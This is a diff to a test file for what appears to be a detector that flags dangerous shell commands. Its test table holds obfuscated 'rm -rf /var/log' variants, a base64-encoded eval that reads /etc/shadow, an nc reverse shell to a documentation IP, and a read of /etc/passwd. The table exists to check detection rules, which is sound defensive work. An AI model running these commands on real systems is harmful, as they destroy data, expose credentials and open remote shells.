@@ -78,6 +78,8 @@ describe('commands fact: rules see what bash would run (issue 21)', () => {
     ['$(echo rm) -rf /var/log', ['SW-TST-0001']],
     ['`printf rm` -rf /var/log', ['SW-TST-0001']],
     ['${x:-rm} -rf /var/log', ['SW-TST-0001']],
+    ['$(echo rm -rf /var/log)', ['SW-TST-0001']],
+    ['eval $(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)', ['SW-TST-0002']],
     ['a=rm; $a -rf /var/log', ['SW-TST-0001']],
     ['builtin exec -a sshd nc -e /bin/sh 192.0.2.1 4444', ['SW-TST-0004']],
     ['command -p cat /etc/passwd', ['SW-TST-0005']],
